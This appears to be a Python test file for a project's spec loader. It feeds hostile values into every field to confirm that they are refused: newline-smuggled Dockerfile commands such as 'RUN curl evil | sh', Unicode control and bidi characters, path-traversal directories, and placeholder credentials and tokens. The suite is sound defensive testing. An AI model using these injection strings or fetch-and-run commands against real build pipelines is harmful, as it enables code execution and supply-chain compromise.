"""The injection boundary: any string that can reach a Dockerfile, a shell or a label is checked at load."""

from __future__ import annotations

import copy
import json

import pytest

from megacpp_env.errors import SpecError
from megacpp_env.spec.yamlsrc import join_key
from tests.fixtures.spec import load_data
from tests.payloads import QUOTED_AT_RENDER, REFUSED_AT_LOAD


class _Key(str):
    """A key path as the loader prints it, with the path of mapping keys and list indexes that
    reaches it (a key may hold dots: `unobtainable` names files such as `cutlass-2.9-...png`)."""

    parts: tuple = ()


def _string_leaves(node, key="", parts=()):
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _string_leaves(v, join_key(key, k), (*parts, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _string_leaves(v, join_key(key, i), (*parts, i))
    elif isinstance(node, str):
        leaf = _Key(key)
        leaf.parts = parts
        yield leaf


def _assign(data, key, value):
    *head, last = _parts(key)
    node = data
    for part in head:
        node = node[part]
    node[last] = value


def test_every_string_field_refuses_every_payload(stack_data):
    leaves = list(_string_leaves(stack_data))
    assert len(leaves) > 120  # every string of the real spec, not a sample
    for key in leaves:
        for payload in REFUSED_AT_LOAD:
            data = copy.deepcopy(stack_data)
            _assign(data, key, payload)
            assert payload not in json.dumps(stack_data)
            with pytest.raises(SpecError) as exc:
                load_data(data)
            assert exc.value.key == key, (key, payload, str(exc.value))


def test_balanced_substitutions_are_left_to_the_renderer(stack_data):
    """Not refused at load in free text (tests/test_render_templating.py shows they render quoted)."""
    data = copy.deepcopy(stack_data)
    for payload in QUOTED_AT_RENDER:
        next(iter(data["sources"].values()))["ref"] = payload
        assert next(iter(load_data(data).sources.values())).ref == payload


def test_payload_in_an_env_name_is_refused(stack_data):
    data = copy.deepcopy(stack_data)
    data["targets"]["gb10"]["env"]["runtime"]["X\nRUN curl evil"] = "1"
    with pytest.raises(SpecError, match="unsafe key: control character"):
        load_data(data)


def test_payload_in_a_target_name_is_refused(stack_data):
    data = copy.deepcopy(stack_data)
    data["targets"]["x\nRUN curl evil | sh"] = data["targets"].pop("smoke")
    with pytest.raises(SpecError, match="unsafe key: control character"):
        load_data(data)


# ---- every dangerous character class, every field, every mapping key (issue 12, class 9) -------------

import unicodedata  # noqa: E402
from pathlib import Path  # noqa: E402

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from megacpp_env.spec import load_spec  # noqa: E402
from tests.fixtures.spec import STACK_YAML  # noqa: E402

_STACK = json.loads(json.dumps(__import__("yaml").safe_load(STACK_YAML.read_text())))
_LEAVES = sorted(_string_leaves(_STACK))
# Controls (C0, DEL, C1), format (bidi, zero-width), separators, private use, unassigned; plus the
# spaces that look like U+0020 but are not.
REFUSED_CATEGORIES = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
dangerous = st.characters(categories=sorted(REFUSED_CATEGORIES - {"Cs"})) | st.characters(
    categories=["Zs"], exclude_characters=" "
)


def _mapping_keys(node, key=""):
    """(parent path, key) of every key of every mapping in the document."""
    if isinstance(node, dict):
        for k, v in node.items():
            yield key, k
            yield from _mapping_keys(v, join_key(key, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _mapping_keys(v, join_key(key, i))


def _parts(key):
    """The path of ``key``: its own when it has one (_Key), else parsed (a key without dots)."""
    import re

    if isinstance(key, _Key):
        return key.parts
    return tuple(int(p) if p.isdigit() else p for p in re.split(r"\.|\[(\d+)\]", key) if p)


def _node(data, key):
    node = data
    for part in _parts(key):
        node = node[part]
    return node


NAMED = ["\u009b", "\u202e", "\u2066", "\u200b", "\ufeff", "\u00a0", "\u0085", "\U000e0041", "\x1b"]


def test_named_unicode_controls_are_refused_in_every_field(stack_data):
    """The two reproductions (U+009B CSI, U+202E RLO) and their siblings, one in each string of the spec."""
    for i, key in enumerate(_LEAVES):
        char = NAMED[i % len(NAMED)]
        data = copy.deepcopy(stack_data)
        _assign(data, key, f"ok{char}x")
        with pytest.raises(SpecError, match="control character") as exc:
            load_data(data)
        assert exc.value.key == key
        assert "\n" not in str(exc.value) and char not in str(exc.value)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(key=st.sampled_from(_LEAVES), char=dangerous, where=st.integers(min_value=0, max_value=3))
def test_any_character_of_a_refused_category_is_refused_anywhere(key, char, where):
    assert unicodedata.category(char) in REFUSED_CATEGORIES or unicodedata.category(char) == "Zs"
    data = copy.deepcopy(_STACK)
    original = _node(data, key)
    _assign(data, key, original[:where] + char + original[where:])
    with pytest.raises(SpecError) as exc:
        load_data(data)
    assert exc.value.key == key, str(exc.value)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pick=st.sampled_from(sorted(_mapping_keys(_STACK))),
    suffix=st.sampled_from(["\n", "\r\n", "\r", "\x00", "\u2028", "\u202e", " \n"]),
)
def test_no_mapping_key_may_end_in_a_line_break_or_control(pick, suffix):
    """Regexes ending in ``$`` accepted ``"smoke\\n"``; every key is now checked in full."""
    parent, key = pick
    data = copy.deepcopy(_STACK)
    mapping = _node(data, parent) if parent else data
    mapping[key + suffix] = mapping.pop(key)
    with pytest.raises(SpecError) as exc:
        load_data(data)
    assert "\n" not in str(exc.value)


@pytest.mark.parametrize(
    "value",
    [
        "https://user:s3cret@pkgs.example/simple",
        "https://user:pa;ss,wo/rd@pkgs.example/simple",
        "ci:hunter22@git.example:org/repo.git",
        "Bearer abc.def.ghi",
        "Authorization: Basic dXNlcjpwYXNzd29yZA==",
        "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "hf_AbCdEfGhIjKlMnOpQrStUvWxYz012345",
        "AKIAIOSFODNN7EXAMPLE",
        "x9F2kQ7mZp4LwB8vRt1YcN6s",  # a random token under an innocent name
        "--password=hunter2",
        "https://pkgs.example/simple?auth=0123abcd",
    ],
)
def test_credentials_in_env_values_are_refused(stack_data, value):
    for section in ("build", "runtime"):
        data = copy.deepcopy(stack_data)
        data["targets"]["smoke"].setdefault("env", {}).setdefault(section, {})["MEGACPP_SOME_SETTING"] = value
        with pytest.raises(SpecError, match="looks like a credential") as exc:
            load_data(data)
        assert exc.value.key == f"targets.smoke.env.{section}.MEGACPP_SOME_SETTING"
        assert "keep secrets out of the spec" in str(exc.value)


@pytest.mark.parametrize("name", ["HF_TOKEN", "WANDB_API_KEY", "MY_CRED", "SERVICE_API", "S3_ACCESS", "DB_PASSWORD"])
def test_secret_named_env_values_are_refused_unless_a_switch(stack_data, name):
    data = copy.deepcopy(stack_data)
    data["targets"]["smoke"]["env"]["runtime"][name] = "plain-but-secret"
    with pytest.raises(SpecError, match="looks like a credential"):
        load_data(data)
    data["targets"]["smoke"]["env"]["runtime"][name] = "1"  # HF_HUB_DISABLE_IMPLICIT_TOKEN=1 style
    load_data(data)


@pytest.mark.parametrize(
    "value",
    ["Qwen3_5ForCausalLMTextOnly", "LlamaForCausalLM", "Qwen2_5_VLForConditionalGeneration", "GPTNeoXForCausalLM",
     "DeepseekV3ForCausalLM", "Gemma3nForConditionalGeneration", "nvidia/Llama-3_3-Nemotron-Super-49B-v1_5",
     "Qwen2_5OmniThinkerForConditionalGeneration,Phi4MMForCausalLM"],
)  # fmt: skip
def test_model_identifiers_in_env_values_are_accepted(stack_data, value):
    """Architecture names mix case and digits like a token but are words: no credential."""
    for section in ("build", "runtime"):
        data = copy.deepcopy(stack_data)
        data["targets"]["smoke"].setdefault("env", {}).setdefault(section, {})["MEGACPP_MODEL_ARCH"] = value
        spec = load_data(data)
        assert getattr(spec.targets["smoke"], f"{section}_env")["MEGACPP_MODEL_ARCH"] == value


def test_benign_env_values_are_accepted(stack_data):
    data = copy.deepcopy(stack_data)
    data["targets"]["smoke"]["env"]["runtime"].update(
        {
            "TOKENIZERS_PARALLELISM": "false",
            "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True,garbage_collection_threshold:0.6",
            "CUDA_VISIBLE_DEVICES": "GPU-3b7c8a1e-5f2d-4e6b-9a0c-1d2e3f4a5b6c",
            "LD_LIBRARY_PATH": "/usr/local/cuda/lib64:/usr/lib/x86_64-linux-gnu",
            "CMAKE_ARGS": "-DCMAKE_CUDA_ARCHITECTURES=120a -DGGML_CUDA=ON",
            "HF_HOME": "/opt/hf",
        }
    )
    load_data(data)


@pytest.mark.parametrize("golden", ["../../../tmp/x", "/tmp/x", "~/x", "a/../../x", "..", "a/b/../../.."])
def test_golden_dir_must_stay_in_the_repository(stack_data, golden):
    data = copy.deepcopy(stack_data)
    data["snapshot"] = {"golden_dir": golden}
    with pytest.raises(SpecError, match="leaves the repository") as exc:
        load_data(data)
    assert exc.value.key == "snapshot.golden_dir"


def test_golden_dir_through_a_symlink_out_of_the_repository_is_refused(tmp_path, stack_data):
    from megacpp_env.snapshot.golden import golden_dir

    repo, outside = tmp_path / "repo", tmp_path / "outside"
    repo.mkdir()
    outside.mkdir()
    (repo / "link").symlink_to(outside)
    data = copy.deepcopy(stack_data)
    data["snapshot"] = {"golden_dir": "link/golden"}
    spec = load_data(data, repo / "stack.yaml")
    with pytest.raises(SpecError, match="outside"):
        golden_dir(spec, None)
    data["snapshot"] = {"golden_dir": "in/golden"}
    assert golden_dir(load_data(data, repo / "stack.yaml"), None) == repo / "in" / "golden"


def test_a_huge_spec_is_refused_before_it_is_parsed(tmp_path):
    """15 MB of YAML used to cost 44 s and 1.5 GB before the node limit refused it. Now the size is
    checked first: at most MAX_SPEC_BYTES are ever read (measured with tracemalloc, not a clock)."""
    import tracemalloc

    from megacpp_env.spec.loader import MAX_SPEC_BYTES

    big = tmp_path / "stack.yaml"
    with big.open("w") as fh:
        fh.write("schema_version: 1\ntargets:\n")
        for i in range(15 * 1024 * 1024 // 32):
            fh.write(f"  t{i:08d}: {{platforms: [x]}}  #pad\n")
    assert big.stat().st_size > 15 * 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(SpecError, match=f"larger than {MAX_SPEC_BYTES} bytes"):
            load_spec(big)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * MAX_SPEC_BYTES
    with pytest.raises(SpecError, match="larger than"):
        load_data_text = Path(big).read_text()
        from megacpp_env.spec import load_spec_text

        load_spec_text(load_data_text, big)


def test_a_fifo_named_as_the_spec_is_refused_not_waited_on(tmp_path):
    """Issue 19: every reader refuses a non-regular file, and says so (not "larger than")."""
    import os

    fifo = tmp_path / "stack.yaml"
    os.mkfifo(fifo)
    with pytest.raises(SpecError, match=r"stack\.yaml: is a FIFO, not a regular file; refusing to parse it$"):
        load_spec(fifo)
